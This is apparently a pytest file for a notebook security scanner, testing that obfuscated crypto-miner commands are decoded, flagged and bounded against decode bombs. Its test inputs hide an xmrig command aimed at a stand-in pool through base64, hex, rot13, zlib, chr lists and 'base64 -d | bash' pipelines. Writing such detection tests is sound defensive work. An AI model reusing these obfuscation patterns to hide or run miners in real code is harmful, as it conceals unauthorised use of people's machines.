"""Hidden code is read like plain code, within fixed bounds; the finding says it was hidden."""
import base64
import codecs
import gzip
import time
import zlib

import pytest

MINER = "./xmrig -o stratum+tcp://pool.example.net:3333 -u w -p x"


def b64(s: str) -> str:
    return base64.b64encode(s.encode()).decode()


@pytest.mark.parametrize("code,how", [
    (f"import base64, os\nos.system(base64.b64decode('{b64(MINER)}').decode())", "base64"),
    (f"import os\nos.system(bytes.fromhex('{MINER.encode().hex()}').decode())", "hex"),
    (f"import os, codecs\nos.system(codecs.decode('{codecs.encode(MINER, 'rot13')}', 'rot13'))", "rot13"),
    (f"import os, zlib, base64\nos.system(zlib.decompress(base64.b64decode('{base64.b64encode(zlib.compress(MINER.encode())).decode()}')).decode())", "zlib"),
    ("import os\nos.system(''.join(['./xm', 'rig -o strat', 'um+tcp://pool.example.net:3333 -u w']))", "join"),
    (f"import os\nos.system(''.join(chr(c) for c in {[ord(ch) for ch in MINER]}))", "chr"),
    (f"import os\nos.system(''.join(map(chr, {[ord(ch) for ch in MINER]})))", "chr"),
    (f"import os\nos.system('{MINER[::-1]}'[::-1])", "reversed"),
    (f"exec(__import__('base64').b64decode('{b64('import os; os.system(%r)' % MINER)}'))", "base64"),
    (f"import base64\nexec(compile(base64.b64decode('{b64('import os; os.system(%r)' % MINER)}'), 'x', 'exec'))", "base64"),
    (f"!echo {b64(MINER)} | base64 -d | bash", "base64 | sh"),
    (f"!printf %s '{codecs.encode(MINER, 'rot13')}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", "tr | sh"),
    (f"!echo {base64.b64encode(gzip.compress(MINER.encode())).decode()} | base64 -d | gunzip | bash",
     "base64 | gunzip | sh"),
    (f"!echo {MINER.encode().hex()} | xxd -r -p | sh", "hex | sh"),
    (f"%%bash\nbase64 -d <<EOF | bash\n{b64(MINER)}\nEOF", "base64 | sh"),
    (f"!echo {b64(MINER)} > /tmp/p; base64 -d /tmp/p | sh", "base64 literal"),
    ("import os\nos.system('{}{}'.format('./xmrig -o strat', 'um+tcp://pool.example.net:3333 -u w'))", "format"),
    ("import os\nos.system('{a}um+{b}'.format(a='./xmrig -o strat', b='tcp://pool.example.net:3333 -u w'))", "format"),
    ("import os\nos.system('./xmrig -o %s%s -u w' % ('strat', 'um+tcp://pool.example.net:3333'))", "format"),
])
def test_hidden_commands_are_found_and_marked(engine, code, how):
    r = engine.check_cell(code)
    hits = [f for f in r.findings if f.category == "mining"]
    assert hits, code
    assert any(e.deobfuscated and how in e.how for f in hits for e in f.evidence), [e.how for f in hits for e in f.evidence]


def test_split_strings_in_variables(engine):
    code = "a = 'stratum+'\nb = 'tcp://pool.example.net:3333'\nurl = a + b\nimport subprocess\nsubprocess.run(['./w', '-o', url])"
    assert "NBW201" in {f.rule_id for f in engine.check_cell(code).findings}


def test_base64_nested_dozens_deep_is_bounded(engine):
    payload = f"import os; os.system({MINER!r})"
    for _ in range(40):
        payload = f"import base64; exec(base64.b64decode({b64(payload)!r}))"
    t = time.process_time()
    r = engine.check_cell(payload)
    assert time.process_time() - t < 5
    assert r.error is None  # depth limit stops decoding; the scan itself completes


def test_decode_bomb_is_capped(engine):
    bomb = base64.b64encode(zlib.compress(b"A" * (64 << 20), 9)).decode()  # 64 MB of "A" from 64 KB
    code = f"import zlib, base64\nx = zlib.decompress(base64.b64decode('{bomb}'))"
    t = time.process_time()
    r = engine.check_cell(code)
    assert time.process_time() - t < 5 and r.error is None


def test_plain_base64_literal_of_a_banned_string_is_read(engine):
    code = f"cmd = '{b64(MINER)}'\nrun_it = True"
    r = engine.check_cell(code)
    assert any(e.deobfuscated for f in r.findings for e in f.evidence)


def test_base64_image_data_is_not_mistaken(engine):
    # random bytes encoded as base64, as images are: not text, so nothing is decoded
    import os
    code = f"img = '{base64.b64encode(os.urandom(3000)).decode()}XMRIG'"
    assert engine.check_cell(code).findings == []


@pytest.mark.parametrize("code", [
    "x = '%999999999s' % 'a'\nimport os\nos.system(x)",
    "x = '{:>999999999}'.format('a')\nimport os\nos.system(x)",
    "x = '{0.__class__}'.format('a')\nimport os\nos.system(x)",
    "x = '{' .format('a')\nimport os\nos.system(x)",
    "x = '{name}'.format(other='a')\nimport os\nos.system(x)",
    "x = '{3}'.format('a')\nimport os\nos.system(x)",
    "x = '%(a)s' % {'a': 1}\nimport os\nos.system(x)",
    "x = '%s %s' % ('a',)\nimport os\nos.system(x)",
])
def test_format_templates_with_widths_or_fields_are_not_folded(engine, code):
    """A width or an attribute in a template could build a huge string or reach into objects:
    only bare placeholders are folded, the rest stays unknown, and nothing blows up."""
    t = time.process_time()
    r = engine.check_cell(code)
    assert r.error is None and time.process_time() - t < 1.0


def test_here_string_does_not_open_a_heredoc(engine):
    # `<<<` feeds one word; the lines after it are commands, not a heredoc body to its end
    from nbwarden.engine.extract import shell as sh
    pipelines, heredocs = sh.split_commands("cat <<< hello\n./w -o stratum+tcp://pool.example.net:3333\n")
    assert heredocs == [] and [p[0][0][0] for p, _ in pipelines] == ["cat", "./w"]


def test_decoding_a_pipeline_that_does_not_run_it_is_text(engine):
    # decoded and read as text (a string with a pool URL), but no command is run from it
    r = engine.check_cell(f"!echo {b64('hello world, nothing to see')} | base64 -d > notes.txt")
    assert r.findings == []
